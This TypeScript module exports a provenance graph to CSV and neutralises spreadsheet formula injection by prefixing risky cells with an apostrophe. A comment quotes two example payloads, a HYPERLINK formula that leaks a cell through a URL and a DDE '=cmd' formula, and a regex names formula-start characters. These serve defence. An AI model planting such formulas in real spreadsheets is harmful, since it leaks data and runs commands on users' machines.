import type { Provenance } from '../../api/fragments';
import type { GraphEdge } from '../../graph/knownGraph';
import type { ExportedGraph } from './exportProvenance';

const HEADER = ['element', 'id', 'type', 'label', 'source', 'target', 'year', 'quote', 'source_id', 'source_title', 'publisher', 'date', 'url'];

/** A text a spreadsheet would read as a formula (or as a formula after a tab or line break): OWASP "CSV injection". */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * One cell. Numbers as they are; every text between double quotes (inner quotes doubled), and a
 * text that starts like a formula (`=`, `+`, `-`, `@`, tab, carriage return) with a `'` before it,
 * so Excel, LibreOffice and Google Sheets show it as text and never run it: a name such as
 * `=HYPERLINK("http://…?leak="&A1,"Klik hier")` or a quote `=cmd|' /C calc'!A0` comes from
 * articles and curators, not from us.
 */
export function csvCell(v: string | number | null | undefined): string {
  if (v === null || v === undefined || v === '') return '';
  if (typeof v === 'number') return Number.isFinite(v) ? String(v) : '';
  const text = FORMULA_START.test(v) ? `'${v}` : v;
  return `"${text.replace(/"/g, '""')}"`;
}

type Row = (string | number | null | undefined)[];

function rows(base: Row, provenance: readonly Provenance[]): Row[] {
  if (provenance.length === 0) return [[...base, '', '', '', '', '', '']];
  return provenance.map((p) => [...base, p.quote, p.source.id, p.source.title, p.source.publisher, p.source.date, p.source.url]);
}

/**
 * One row per fact and quote (a fact with two sources gives two rows), so every line names its source.
 * An edge's label is its relationship in words, as the app shows it (`edgeLabel`).
 */
export function toCsv(g: ExportedGraph, edgeLabel: (e: GraphEdge) => string): string {
  const lines: Row[] = [HEADER];
  for (const n of g.nodes) lines.push(...rows(['node', n.id, n.type, n.label, '', '', n.year ?? ''], n.provenance));
  for (const e of g.edges) lines.push(...rows(['edge', e.id, e.type, edgeLabel(e), e.source, e.target, ''], e.provenance));
  // A BOM makes Excel read the file as UTF-8 (names like "Creëren").
  return `\uFEFF${lines.map((l) => l.map(csvCell).join(',')).join('\r\n')}\r\n`;
}
